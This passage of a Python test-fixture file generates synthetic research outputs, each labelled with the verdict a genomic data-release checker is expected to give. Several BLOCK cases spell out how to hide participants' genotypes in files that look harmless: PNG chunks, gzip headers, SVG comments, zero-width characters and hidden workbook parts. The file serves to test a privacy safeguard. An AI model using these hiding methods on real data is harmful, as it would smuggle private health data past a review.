@case("figure.png", Expect.REVIEW, "a bar chart", H)
def _(path, rng):
    return _figure("png")


@case("figure.svg", Expect.REVIEW, "a bar chart as SVG", H)
def _(path, rng):
    return _figure("svg")


@case("figure.pdf", Expect.REVIEW, "a bar chart as PDF", H)
def _(path, rng):
    return _figure("pdf")


@case("analysis.ipynb", Expect.REVIEW, "a notebook with a count table", H)
def _(path, rng):
    import nbformat

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("counts")
    frame = pd.DataFrame({"region": ["north", "south"], "n": [55, 40]})
    cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/html": frame.to_html()},
                                           execution_count=1)]  # fmt: skip
    nb.cells = [nbformat.v4.new_markdown_cell("# Counts"), cell]
    return nbformat.writes(nb)


@case("counts_table.html", Expect.REVIEW, "an HTML table of rounded counts", H)
def _(path, rng):
    frame = pd.DataFrame({"region": ["north", "south"], "n": [55, 40]})
    return "<html><body>" + frame.to_html(index=False) + "</body></html>\n"


# -- sites-only VCFs (allele frequency releases) ---------------------------------------------

_SITES_INFO = (
    '##INFO=<ID=AC,Number=A,Type=Integer,Description="Allele count in genotypes">\n'
    '##INFO=<ID=AN,Number=1,Type=Integer,Description="Total number of alleles">\n'
    '##INFO=<ID=AF,Number=A,Type=Float,Description="Allele frequency">\n'
    '##INFO=<ID=nhomalt,Number=A,Type=Integer,Description="Count of homozygous individuals">\n'
    '##INFO=<ID=CSQ,Number=.,Type=String,Description="VEP: Allele|Consequence|IMPACT|SYMBOL">\n'
    '##INFO=<ID=DB,Number=0,Type=Flag,Description="dbSNP membership">\n'
)
_SITES_COLUMNS = "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO"


def _sites_vcf(rng, *, contigs: int = 0, hom_one_at: int = -1, extra=None) -> str:
    """A sites-only VCF of 300 variants as a national frequency release writes it: AC, AN,
    AF and nhomalt of 300 people, every seventh site multi-allelic, VEP's CSQ text."""
    rows = []
    for v in range(300):
        alts = ["G", "T"] if v % 7 == 0 else ["G"]
        acs = [int(rng.integers(20, 320)) for _ in alts]
        homs = [1 if v == hom_one_at else int(rng.integers(10, 30)) for _ in alts]
        info = (f"AC={','.join(map(str, acs))};AN=600;"
                f"AF={','.join(f'{a / 600:.4g}' for a in acs)};"
                f"nhomalt={','.join(map(str, homs))};CSQ=G|missense_variant|MODERATE|APOL1"
                + (";DB" if v % 3 == 0 else "") + (extra(rng) if extra else ""))  # fmt: skip
        rows.append(f"chr22\t{16050000 + v * 100}\trs{1000 + v}\tA\t{','.join(alts)}\t"
                    f"{rng.uniform(30, 900):.1f}\tPASS\t{info}\n")  # fmt: skip
    return (
        "##fileformat=VCFv4.2\n##source=tresor\n##reference=GRCh38\n"
        + "".join(f"##contig=<ID=chrUn_KI27{j:04d}v1,length={1000 + j}>\n" for j in range(contigs))
        + _SITES_INFO
        + _SITES_COLUMNS
        + "\n"
        + "".join(rows)
    )


@case("freq_release.sites.vcf", Expect.PASS, "a sites-only VCF of allele counts (AC, AN)", S)
def _(path, rng):
    return _sites_vcf(rng)


@case("freq_release.sites.vcf.gz", Expect.PASS, "a gzipped sites-only VCF, long header", S)
def _(path, rng):
    return gzip.compress(_sites_vcf(rng, contigs=2500).encode())


@case("freq_release_hom1.sites.vcf", Expect.BLOCK, "a sites-only VCF, nhomalt of 1 person", C)
def _(path, rng):
    return _sites_vcf(rng, hom_one_at=40)


@case("sites_with_calls.vcf", Expect.BLOCK, "a sites-only VCF with calls in INFO", I)
def _(path, rng):
    calls = np.array(["0/0", "0/1", "1/1"])
    return _sites_vcf(rng, extra=lambda r: ";GTS=" + ",".join(calls[r.binomial(2, 0.3, PEOPLE)]))


@case("sites_with_codes.vcf", Expect.BLOCK, "a sites-only VCF with 0/1/2 codes in INFO", I)
def _(path, rng):
    return _sites_vcf(rng, extra=lambda r: ";G=" + "".join(map(str, r.binomial(2, 0.3, PEOPLE))))


@case("genotypes_after_contigs.vcf", Expect.BLOCK, "a VCF of calls after 70 kB of header", I)
def _(path, rng):
    header = _SITES_COLUMNS + "\tFORMAT\t" + "\t".join(sample_ids("dk", 10))
    head = "##fileformat=VCFv4.2\n" + "".join(
        f"##contig=<ID=chrUn_KI27{j:04d}v1,length={1000 + j}>\n" for j in range(2500)
    )
    return head + header + "\n" + "\n".join(_vcf_records(rng, 20, 10)) + "\n"


@case("sites_columns.tsv", Expect.PASS, "a table under a '#CHROM' header of counts", S)
def _(path, rng):
    rows = [["#CHROM", "POS", "ID", "REF", "ALT", "QUAL", "FILTER", "AC", "AN", "AF"]]
    for v in range(200):
        ac = int(rng.integers(12, 300))
        qual = f"{rng.uniform(30, 900):.1f}"
        rows.append([22, 16050000 + v * 100, f"rs{1000 + v}", "A", "G", qual, "PASS", ac, 600,
                     f"{ac / 600:.5f}"])  # fmt: skip
    return _tsv(rows)


@case("calls_in_cell.csv", Expect.BLOCK, "a column of call lists, one per variant", I)
def _(path, rng):
    calls = np.array(["0/0", "0/1", "1/1"])
    rows = [["variant", "calls"]] + [
        [f"rs{1000 + v}", '"' + ";".join(calls[rng.binomial(2, 0.3, PEOPLE)]) + '"']
        for v in range(30)
    ]
    return _tsv(rows, ",")


# -- trees and sparse matrices -----------------------------------------------------------------


def _newick(rng, labels: list[str], indent: bool = False) -> str:
    """A binary tree over ``labels`` with branch lengths (scipy's to_tree written out, as an
    ape or ete3 write() gives it); ``indent``: one node per line."""

    def node(lo: int, hi: int, depth: int) -> str:
        pad = "  " * depth if indent else ""
        nl = "\n" if indent else ""
        if hi - lo == 1:
            return f"{pad}{labels[lo]}:{rng.random():.4f}"
        mid = (lo + hi) // 2
        return (f"{pad}({nl}{node(lo, mid, depth + 1)},{nl}{node(mid, hi, depth + 1)}{nl}"
                f"{pad}):{rng.random():.4f}")  # fmt: skip

    return node(0, len(labels), 0) + ";\n"


@case("clustering.nwk", Expect.BLOCK, "a Newick tree with a leaf per person (numbered)", I)
def _(path, rng):
    return _newick(rng, [str(j) for j in range(1, PEOPLE + 1)])


@case("tree_indented.txt", Expect.BLOCK, "a Newick tree of people, one node per line", I)
def _(path, rng):
    return _newick(rng, [f"s{j}" for j in range(PEOPLE)], indent=True)


@case("species.nwk", Expect.REVIEW, "a Newick tree of 12 species", H)
def _(path, rng):
    names = ["human", "chimp", "gorilla", "orangutan", "macaque", "baboon", "mouse", "rat",
             "cow", "pig", "dog", "cat"]  # fmt: skip
    return _newick(rng, names)


@case("genotypes.mtx", Expect.BLOCK, "a Matrix Market sparse matrix of people's genotypes", I)
def _(path, rng):
    g = _genotypes(rng, PEOPLE, 100)
    nz = np.argwhere(g > 0)
    lines = [f"{i + 1} {j + 1} {g[i, j]}" for i, j in nz]
    return (f"%%MatrixMarket matrix coordinate integer general\n%\n{PEOPLE} 100 {len(nz)}\n"
            + "\n".join(lines) + "\n")  # fmt: skip


@case("genes.mtx", Expect.REVIEW, "a Matrix Market matrix of 50 genes' correlations", H)
def _(path, rng):
    lines = [f"{i} {i + 1} {rng.uniform(-1, 1):.3f}" for i in range(1, 50, 3)]
    return ("%%MatrixMarket matrix coordinate real symmetric\n% gene correlations\n"
            f"50 50 {len(lines)}\n" + "\n".join(lines) + "\n")  # fmt: skip


# -- records as code and dumps write them ------------------------------------------------------


def _people_frame(rng) -> pd.DataFrame:
    return pd.DataFrame({
        "age": rng.integers(30, 80, PEOPLE),
        "ldl": rng.normal(3, 1, PEOPLE).round(2),
        "PC1": rng.normal(0, 1, PEOPLE).round(4),
    })  # fmt: skip


@case("people.yaml", Expect.BLOCK, "yaml.dump of a list of per-person dicts", I)
def _(path, rng):
    frame = _people_frame(rng)
    return "".join(f"- age: {r.age}\n  ldl: {r.ldl}\n  PC1: {r.PC1}\n"
                   for r in frame.itertuples())  # fmt: skip


@case("workflow_samples.yaml", Expect.PASS, "a workflow's list of batches and paths", S)
def _(path, rng):
    batches = "".join(f"  - name: batch{j}\n    path: /data/batch{j}.vcf.gz\n" for j in range(4))
    return "samples:\n" + batches + "threads: 8\nmemory_gb: 16\n"


@case("pheno_dump.sql", Expect.BLOCK, "an SQL dump inserting a row per person", I)
def _(path, rng):
    frame = _people_frame(rng)
    rows = "".join(f"INSERT INTO pheno VALUES({i + 1},{r.age},{r.ldl},{r.PC1});\n"
                   for i, r in enumerate(frame.itertuples()))  # fmt: skip
    return ("PRAGMA foreign_keys=OFF;\nBEGIN TRANSACTION;\n"
            "CREATE TABLE pheno(id INTEGER, age INTEGER, ldl REAL, PC1 REAL);\n" + rows
            + "COMMIT;\n")  # fmt: skip


@case("counts_dump.sql", Expect.PASS, "an SQL dump of a table of rounded counts", S)
def _(path, rng):
    return ("BEGIN TRANSACTION;\nCREATE TABLE counts(region TEXT, n INTEGER);\n"
            "INSERT INTO counts VALUES('north',55);\nINSERT INTO counts VALUES('south',40);\n"
            "COMMIT;\n")  # fmt: skip


@case("scores_assigned.py", Expect.BLOCK, "a script with 300 scores typed into a list", I)
def _(path, rng):
    values = ", ".join(f"{x:.4f}" for x in rng.normal(0, 1, PEOPLE))
    return f"import numpy as np\n\nscores = [{values}]\nprint(np.mean(scores))\n"


@case("numpy_repr.txt", Expect.BLOCK, "NumPy's repr of 300 scores, array([...])", I)
def _(path, rng):
    import numpy

    with numpy.printoptions(threshold=10_000):
        return repr(rng.normal(0, 1, PEOPLE).round(4)) + "\n"


@case("histogram.json", Expect.BLOCK, "np.histogram's counts and edges as JSON, a bin of 3", C)
def _(path, rng):
    ages = np.concatenate([rng.normal(55, 8, PEOPLE - 3), [91, 93, 95]])
    counts, edges = np.histogram(ages, bins=range(20, 110, 10))
    return json.dumps({"counts": counts.tolist(), "bin_edges": edges.tolist()})


# -- expression and QTL results -----------------------------------------------------------------


def _tensorqtl(rng, rare_at: int = -1) -> str:
    """tensorQTL map_cis results of 200 genes in 300 people (ma_count of 600 alleles)."""
    rows = [["phenotype_id", "num_var", "beta_shape1", "beta_shape2", "true_df", "pval_true_df",
             "variant_id", "tss_distance", "ma_samples", "ma_count", "af", "pval_nominal",
             "slope", "slope_se", "pval_perm", "pval_beta"]]  # fmt: skip
    for i in range(200):
        ac = 2 if i == rare_at else int(rng.integers(30, 570))
        count = min(ac, 600 - ac)
        carriers = max(int(count * rng.uniform(0.8, 1.0)), (count + 1) // 2)
        rows.append([f"ENSG{i:011d}.1", int(rng.integers(3000, 9000)), "1.02",
                     f"{rng.uniform(500, 900):.1f}", f"{rng.uniform(200, 290):.2f}",
                     f"{rng.uniform():.3e}", f"chr22_{16050000 + i * 100}_A_G_b38",
                     int(rng.integers(-900000, 900000)), carriers, count, f"{ac / 600:.4f}",
                     f"{rng.uniform():.3e}", f"{rng.normal():.4f}", f"{rng.uniform(.05, .2):.4f}",
                     f"{rng.uniform():.4f}", f"{rng.uniform():.4e}"])  # fmt: skip
    return _tsv(rows)


@case("tensorqtl.cis_qtl.txt", Expect.PASS, "tensorQTL map_cis results (ma_count of 30+)", S)
def _(path, rng):
    return _tensorqtl(rng)


@case("tensorqtl_rare.cis_qtl.txt", Expect.BLOCK, "tensorQTL results, a gene's ma_count 2", C)
def _(path, rng):
    return _tensorqtl(rng, rare_at=17)


@case("deseq2_results.csv", Expect.PASS, "DESeq2 results of 2,000 genes", S)
def _(path, rng):
    rows = [["", "baseMean", "log2FoldChange", "lfcSE", "stat", "pvalue", "padj"]]
    for i in range(2000):
        rows.append([f"ENSG{i:011d}", f"{rng.uniform(1, 5000):.3f}", f"{rng.normal():.4f}",
                     f"{rng.uniform(.05, .5):.4f}", f"{rng.normal():.4f}",
                     f"{rng.uniform():.4e}", f"{rng.uniform():.4e}"])  # fmt: skip
    return _tsv(rows, ",")


@case("limma_toptable.tsv", Expect.PASS, "limma topTable of 2,000 genes", S)
def _(path, rng):
    rows = [["", "logFC", "AveExpr", "t", "P.Value", "adj.P.Val", "B"]]
    for i in range(2000):
        rows.append([f"GENE{i}", f"{rng.normal():.4f}", f"{rng.uniform(2, 12):.3f}",
                     f"{rng.normal() * 3:.3f}", f"{rng.uniform():.3e}", f"{rng.uniform():.3e}",
                     f"{rng.normal():.3f}"])  # fmt: skip
    return _tsv(rows)


@case("edger_toptags.tsv", Expect.PASS, "edgeR topTags of 2,000 genes", S)
def _(path, rng):
    rows = [["", "logFC", "logCPM", "F", "PValue", "FDR"]]
    for i in range(2000):
        rows.append([f"GENE{i}", f"{rng.normal():.4f}", f"{rng.uniform(2, 12):.3f}",
                     f"{rng.uniform(0, 30):.3f}", f"{rng.uniform():.3e}",
                     f"{rng.uniform():.3e}"])  # fmt: skip
    return _tsv(rows)


@case("report_with_image.md", Expect.REVIEW, "Markdown with a chart as a data URI", H)
def _(path, rng):
    image = base64.b64encode(_figure("png")).decode()
    return f"# Results\n\n![cohorts](data:image/png;base64,{image})\n\nCounts are rounded.\n"


@case("image_with_data.md", Expect.BLOCK, "a data-URI PNG with genotypes appended", I)
def _(path, rng):
    packed = np.packbits(_genotypes(rng, PEOPLE, 40) > 0).tobytes()
    image = base64.b64encode(_figure("png") + packed).decode()
    return f"# Results\n\n![cohorts](data:image/png;base64,{image})\n"


@case("counts_to_markdown.md", Expect.BLOCK, "to_markdown() with no final newline, last n 3", C)
def _(path, rng):
    frame = pd.DataFrame({"group": ["controls", "other", "cases"], "n": [250, 47, 3]})
    return frame.to_markdown(index=False)


def _plotly_scatter(rng) -> dict:
    """A plotly figure's JSON (fig.to_plotly_json()): a scatter of 300 people's PC1 and PC2."""
    pcs = _scores(rng, PEOPLE, 2).round(4)
    trace = {"type": "scatter", "mode": "markers", "name": "cohort",
             "x": pcs[:, 0].tolist(), "y": pcs[:, 1].tolist()}  # fmt: skip
    return {"data": [trace], "layout": {"title": {"text": "PCA"}}}


@case("pca_plotly.json", Expect.BLOCK, "a plotly figure's JSON of 300 people's PCs", I)
def _(path, rng):
    return json.dumps(_plotly_scatter(rng))


@case("notebook_plotly.ipynb", Expect.BLOCK, "a notebook's plotly output of 300 people's PCs", I)
def _(path, rng):
    import nbformat

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("px.scatter(pcs, x='PC1', y='PC2')")
    data = {"application/vnd.plotly.v1+json": _plotly_scatter(rng), "text/plain": "<Figure>"}
    cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    nb.cells = [cell]
    return nbformat.writes(nb)


@case("notebook_traceback.ipynb", Expect.BLOCK, "a traceback printing a frame of 300 people", I)
def _(path, rng):
    import nbformat

    frame = pd.DataFrame(
        {"age": rng.integers(30, 80, PEOPLE), "ldl": rng.normal(3, 1, PEOPLE).round(2)}
    )
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("check(pheno)")
    traceback = ["\x1b[0;31mValueError\x1b[0m: unexpected rows in", frame.to_string()]
    cell.outputs = [nbformat.v4.new_output("error", ename="ValueError", evalue="unexpected rows",
                                           traceback=traceback)]  # fmt: skip
    nb.cells = [cell]
    return nbformat.writes(nb)


@case("nordic_ids.txt", Expect.BLOCK, "a QC note naming a fødselsnummer and a Finnish code", I)
def _(path, rng):
    return ("Samples withdrawn after QC: participant 01019010046 (Norway) and participant "
            "131052-308T (Finland).\n")  # fmt: skip


# -- as many rows as people, by coincidence -----------------------------------------------------


@case("top_genes.csv", Expect.REVIEW, "z-scores of the top 290 genes (as many as people)", H)
def _(path, rng):
    symbols = [f"{a}{b}{k}" for a, b, k in zip(rng.choice(list("ABCDEFGHKLMNPRST"), 290),
                                               rng.choice(list("ABCDEFGHKLMNPRST"), 290),
                                               rng.integers(1, 40, 290), strict=True)]  # fmt: skip
    rows = [["gene", "zscore", "pvalue"]] + [
        [f"{g}-{j}", f"{rng.normal():.3f}", f"{rng.uniform():.4g}"] for j, g in enumerate(symbols)
    ]
    return _tsv(rows, ",")


@case("enriched_pathways.tsv", Expect.REVIEW, "300 GO terms' enrichment (as many as people)", H)
def _(path, rng):
    rows = [["term", "enrichment", "p", "q"]] + [
        [f"GO:{int(k):07d}", f"{rng.uniform(0.5, 3):.3f}", f"{rng.uniform():.4g}",
         f"{rng.uniform():.4g}"] for k in rng.choice(99999, PEOPLE, replace=False)
    ]  # fmt: skip
    return _tsv(rows)


@case("regions_scores.tsv", Expect.REVIEW, "scores of 300 genomic regions (chr, start, end)", H)
def _(path, rng):
    rows = [["chr", "start", "end", "score"]] + [
        [f"chr{1 + i // 100}", i * 10000, i * 10000 + 5000, f"{rng.uniform():.4f}"]
        for i in range(PEOPLE)
    ]
    return _tsv(rows)


@case("people_by_region.csv", Expect.BLOCK, "300 people's age and LDL beside their region", I)
def _(path, rng):
    rows = [["region", "age", "ldl"]] + [
        [rng.choice(["north", "south"]), int(rng.integers(30, 80)), f"{rng.normal(3, 1):.2f}"]
        for _ in range(PEOPLE)
    ]
    return _tsv(rows, ",")


@case("tissue_by_gene.csv", Expect.REVIEW, "mean expression of 300 genes (columns) in 5 tissues", H)
def _(path, rng):
    genes = [f"ENSG{int(k):011d}" for k in rng.choice(10**6, PEOPLE, replace=False)]
    rows = [["tissue", *genes]] + [
        [t, *(f"{x:.3f}" for x in rng.uniform(0, 100, PEOPLE))]
        for t in ("liver", "muscle", "adipose", "brain", "blood")
    ]
    return _tsv(rows, ",")


@case("SHA512SUMS", Expect.PASS, "sha512sum's checksums of the released files", S)
def _(path, rng):
    import hashlib

    names = ("results.csv", "figure.png", "methods.md")
    return "".join(f"{hashlib.sha512(rng.bytes(64)).hexdigest()}  {n}\n" for n in names)


def _classifier_curve(rng) -> pd.DataFrame:
    """A classifier's curve at 300 thresholds (every other of 600 people's scores)."""
    truth = rng.integers(0, 2, 2 * PEOPLE)
    scores = truth * 0.8 + rng.normal(0, 1, 2 * PEOPLE)
    order = np.argsort(-scores)
    tp, fp = np.cumsum(truth[order]), np.cumsum(1 - truth[order])
    return pd.DataFrame({"fpr": fp / fp[-1], "tpr": tp / tp[-1], "precision": tp / (tp + fp),
                         "threshold": scores[order]}).iloc[::2].round(5)  # fmt: skip


@case("precision_recall.csv", Expect.REVIEW, "a precision-recall curve at 300 thresholds", H)
def _(path, rng):
    curve = _classifier_curve(rng).rename(columns={"tpr": "recall"})
    return curve[["precision", "recall", "threshold"]].to_csv(index=False)


@case("roc_curve.csv", Expect.REVIEW, "a ROC curve at 300 thresholds", H)
def _(path, rng):
    return _classifier_curve(rng)[["fpr", "tpr", "threshold"]].to_csv(index=False)


@case("simulations.csv", Expect.REVIEW, "estimates of 300 simulation replicates", H)
def _(path, rng):
    rows = [["rep", "estimate", "se", "p"]] + [
        [i, f"{rng.normal(0.1, 0.05):.4f}", f"{rng.uniform(.03, .06):.4f}", f"{rng.uniform():.4g}"]
        for i in range(1, PEOPLE + 1)
    ]  # fmt: skip
    return _tsv(rows, ",")


@case("permutations.tsv", Expect.REVIEW, "the maximum statistic of 280 permutations", H)
def _(path, rng):
    rows = [["permutation", "max_stat"]] + [[i, f"{rng.gamma(3, 2):.4f}"] for i in range(1, 281)]
    return _tsv(rows)


@case("counts_mac.csv", Expect.REVIEW, "rounded counts saved as CSV (Macintosh): CR lines", F)
def _(path, rng):
    return "region,cases,controls\rnorth,30,120\rsouth,45,130\r"


@case("small_counts_mac.csv", Expect.BLOCK, "a count of 3 saved as CSV (Macintosh)", C)
def _(path, rng):
    return "group,n\rcases,3\rcontrols,297\r"


@case("counts_utf16le.tsv", Expect.REVIEW, "rounded counts in UTF-16 without a byte-order mark", F)
def _(path, rng):
    return "region\tcases\tcontrols\r\nnorth\t30\t120\r\nsouth\t45\t130\r\n".encode("utf-16-le")


@case("phewas.csv", Expect.REVIEW, "a PheWAS of 290 phecodes (as many as people)", H)
def _(path, rng):
    codes = np.sort(rng.choice(np.arange(80, 9990), 290, replace=False)) / 10
    rows = [["phecode", "description", "beta", "se", "p"]] + [
        [f"{c:.1f}", f"Disease {c:.1f}", f"{rng.normal(0, .1):.4f}", f"{rng.uniform(.02, .1):.4f}",
         f"{rng.uniform():.4g}"] for c in codes
    ]  # fmt: skip
    return _tsv(rows, ",")


@case("coverage_bins.tsv", Expect.REVIEW, "mean depth in 300 genomic bins", H)
def _(path, rng):
    rows = [["bin", "start", "mean_depth"]] + [
        [i, i * 100000, f"{rng.normal(30, 3):.2f}"] for i in range(PEOPLE)
    ]
    return _tsv(rows)


@case("eigenvalues.npy", Expect.PASS, "PCA eigenvalues saved with numpy.save", F)
def _(path, rng):
    with open(path, "wb") as f:
        np.save(f, np.sort(rng.uniform(1.0, 12.0, 10))[::-1])


@case("pcs.npy", Expect.BLOCK, "PCs per person saved with numpy.save", I)
def _(path, rng):
    with open(path, "wb") as f:
        np.save(f, _scores(rng))


@case("genotypes.npy", Expect.BLOCK, "an int8 0/1/2 matrix of variants by people (numpy.save)", I)
def _(path, rng):
    with open(path, "wb") as f:
        np.save(f, _genotypes(rng, PEOPLE, 40).T.astype("int8"))


@case("crosstab_hidden.parquet", Expect.BLOCK, "genotypes hidden before a Parquet footer", I)
def _(path, rng):
    frame = pd.DataFrame({"region": ["north", "south"], "cases": [55, 40], "controls": [120, 115]})
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    data = buffer.getvalue()
    at = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    calls = _genotypes(rng, PEOPLE, 20)
    hidden = "\n".join(
        f"{i}," + "".join(map(str, g)) for i, g in zip(sample_ids("dk"), calls, strict=True)
    )
    return data[:at] + zlib.compress(hidden.encode()) + data[at:]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def _hidden_calls(rng) -> bytes:
    calls = _genotypes(rng, PEOPLE, 20)
    rows = (f"{i}," + "".join(map(str, g)) for i, g in zip(sample_ids("dk"), calls, strict=True))
    return zlib.compress("\n".join(rows).encode())


@case("figure_private_chunk.png", Expect.BLOCK, "genotypes in a PNG chunk viewers skip", I)
def _(path, rng):
    png = _figure("png")
    return png[:33] + _png_chunk(b"prVt", _hidden_calls(rng)) + png[33:]


@case("figure_extra_rows.png", Expect.BLOCK, "genotypes as pixel rows past a PNG's height", I)
def _(path, rng):
    width, height = 40, 30
    pixels = rng.integers(0, 255, (height, width * 3)).astype("u1")
    hidden = np.frombuffer(_hidden_calls(rng), dtype="u1")
    extra = np.resize(hidden, (-(-len(hidden) // (width * 3)), width * 3))
    raw = b"".join(b"\x00" + row.tobytes() for row in np.vstack([pixels, extra]))
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(raw)) + _png_chunk(b"IEND", b""))  # fmt: skip


@case("counts_gzip_extra.csv.gz", Expect.BLOCK, "genotypes in a gzip header's extra field", I)
def _(path, rng):
    hidden = _hidden_calls(rng)[:60000]
    data = gzip.compress(b"region,cases,controls\nnorth,55,120\nsouth,40,115\n", mtime=0)
    flags = bytes([data[3] | 0x04])
    return data[:3] + flags + data[4:10] + len(hidden).to_bytes(2, "little") + hidden + data[10:]


@case("figure_comment.svg", Expect.BLOCK, "genotypes base64-encoded in an SVG comment", I)
def _(path, rng):
    svg = _figure("svg").decode()
    comment = f"<!-- {base64.b64encode(_hidden_calls(rng)).decode()} -->"
    return svg.replace("</svg>", comment + "</svg>").encode()


@case("genotypes_int8_base64.txt", Expect.BLOCK, "int8 genotypes as base64 in a note", I)
def _(path, rng):
    calls = _genotypes(rng, PEOPLE, 4).T.astype("int8")
    encoded = [base64.b64encode(g.tobytes()).decode() for g in calls]
    lines = [f"{v}: {text}" for v, text in zip("ABCD", encoded, strict=True)]
    return "Genotypes of the four candidate variants, for the record:\n" + "\n".join(lines) + "\n"


def _workbook(rows: list[list]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@case("crosstab_hidden_part.xlsx", Expect.BLOCK, "genotypes in a workbook part Excel skips", I)
def _(path, rng):
    import zipfile

    buffer = io.BytesIO(_workbook([["region", "cases"], ["north", 55], ["south", 40]]))
    with zipfile.ZipFile(buffer, "a") as z:
        z.writestr("xl/data.bin", _hidden_calls(rng))
    return buffer.getvalue()


@case("pivot_cache.xlsx", Expect.BLOCK, "a pivot table whose cache keeps per-person rows", I)
def _(path, rng):
    import zipfile

    rows = "".join(
        f'<r><s v="{i}"/><n v="{rng.integers(30, 80)}"/><n v="{rng.normal(3.2, 0.8):.2f}"/></r>'
        for i in range(PEOPLE)
    )
    buffer = io.BytesIO(_workbook([["sex", "mean_ldl"], ["F", 3.1], ["M", 3.3]]))
    with zipfile.ZipFile(buffer, "a") as z:
        z.writestr("xl/pivotCache/pivotCacheRecords1.xml",
                   f'<pivotCacheRecords count="{PEOPLE}">{rows}</pivotCacheRecords>')  # fmt: skip
    return buffer.getvalue()


@case("figure_revised.pdf", Expect.BLOCK, "a PDF whose earlier revision stays in the file", I)
def _(path, rng):
    pdf = _figure("pdf")
    obj = b"99 0 obj\n<< /Note (first draft: table of carriers) >>\nendobj\n"
    update = obj + (
        b"xref\n99 1\n%010d 00000 n \ntrailer\n<< /Size 100 /Root 1 0 R /Prev %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(pdf), pdf.rfind(b"startxref"), len(pdf) + len(obj))
    )
    return pdf + update


@case("methods_invisible.md", Expect.BLOCK, "genotype bits as zero-width characters", I)
def _(path, rng):
    bits = _genotypes(rng, PEOPLE, 20).ravel() > 0
    hidden = "".join("\u200c" if b else "\u200b" for b in bits)
    return f"# Methods\n\nWe fitted a linear model of LDL on age and sex.{hidden}\n"


@case("notebook_attachment.ipynb", Expect.BLOCK, "per-person rows pasted as a cell attachment", I)
def _(path, rng):
    import nbformat

    rows = "\n".join(
        f"{i},{rng.integers(30, 80)},{rng.normal(3.2, 0.8):.2f}" for i in range(PEOPLE)
    )
    book = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_markdown_cell("The cohort, for the record: ![](attachment:cohort.csv)")
    cell.attachments = {"cohort.csv": {"text/csv": "row,age,ldl\n" + rows + "\n"}}
    book.cells.append(cell)
    return nbformat.writes(book)


@case("notebook_octet_output.ipynb", Expect.BLOCK, "packed genotypes in a binary output", I)
def _(path, rng):

    packed = np.packbits(_genotypes(rng, PEOPLE, 20).astype(bool)).tobytes()
    data = {"application/octet-stream": base64.b64encode(packed).decode(), "text/plain": "<bytes>"}
    return _one_output("IPython.display.publish_display_data(...)", data)


def _one_output(source: str, data: dict) -> str:
    """A notebook of one code cell with one display output of ``data`` (MIME type -> value)."""
    import nbformat

    book = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell(source)
    cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    book.cells.append(cell)
    return nbformat.writes(book)


@case("report_comment.html", Expect.BLOCK, "packed genotypes in an HTML comment", I)
def _(path, rng):
    packed = np.packbits(_genotypes(rng, PEOPLE, 20).astype(bool)).tobytes()
    return (
        "<html><body><h1>Results</h1><table><tr><th>group</th><th>n</th></tr>"
        "<tr><td>cases</td><td>55</td></tr></table>"
        f"<!-- {base64.b64encode(packed).decode()} --></body></html>"
    )


@case("cohort.bim", Expect.PASS, "a plink 1.9 variant list (.bim)", F)
def _(path, rng):
    positions = np.sort(rng.choice(np.arange(10_000, 50_000_000), 2000, replace=False))
    return "".join(f"22\trs{p}\t0\t{p}\tA\tG\n" for p in positions)


@case("cohort.pvar", Expect.REVIEW, "a plink2 variant list (.pvar: #CHROM to ALT)", F)
def _(path, rng):
    positions = np.sort(rng.choice(np.arange(10_000, 50_000_000), 2000, replace=False))
    rows = "".join(f"22\t{p}\trs{p}\tA\tG\n" for p in positions)
    return "##fileformat=VCFv4.2\n##contig=<ID=22>\n#CHROM\tPOS\tID\tREF\tALT\n" + rows


@case("counts_utf32.tsv", Expect.REVIEW, "rounded counts saved as UTF-32", F)
def _(path, rng):
    return "region\tcases\tcontrols\nnorth\t30\t120\nsouth\t45\t130\n".encode("utf-32")


@case("sumstats.glm.linear.xz", Expect.PASS, "plink2 linear GWAS results compressed with xz", F)
def _(path, rng):
    import lzma

    rows = ["#CHROM\tPOS\tID\tREF\tALT\tA1\tTEST\tOBS_CT\tBETA\tSE\tT_STAT\tP"]
    for j in range(200):
        beta, se = rng.normal(0, 0.05), rng.uniform(0.02, 0.05)
        rows.append(f"22\t{16_000_000 + 97 * j}\trs{9000 + j}\tA\tG\tG\tADD\t5000\t"
                    f"{beta:.5f}\t{se:.5f}\t{beta / se:.4f}\t{rng.uniform():.4g}")  # fmt: skip
    return lzma.compress(("\n".join(rows) + "\n").encode())


@case("counts_small.tsv.bz2", Expect.BLOCK, "a count of 3 compressed with bzip2", C)
def _(path, rng):
    import bz2

    return bz2.compress(b"group\tn\ncases\t3\ncontrols\t297\n")


@case("case_report.md", Expect.FLAG, "a case report of one participant (age, LDL, genotype)", I)
def _(path, rng):
    return (
        "# An APOB carrier\n\nA 54-year-old woman with LDL cholesterol of 6.2 mmol/L carries the "
        "p.Arg3527Gln variant in APOB (heterozygous). Her father had a myocardial infarction at "
        "41.\n"
    )


@case("participant_score.txt", Expect.FLAG, "one participant's polygenic score", I)
def _(path, rng):
    return f"PGS for participant 17: {rng.normal(1.5, 0.2):.3f} (98th percentile)\n"


@case("cohort.grm", Expect.BLOCK, "a GRM written as GCTA's text (i, j, SNPs, relatedness)", I)
def _(path, rng):
    lines = [
        f"{i}\t{j}\t{rng.integers(90000, 100000)}\t{1.0 if i == j else rng.normal(0, 0.01):.6e}"
        for i in range(1, PEOPLE + 1)
        for j in range(1, i + 1)
    ]
    return "\n".join(lines) + "\n"


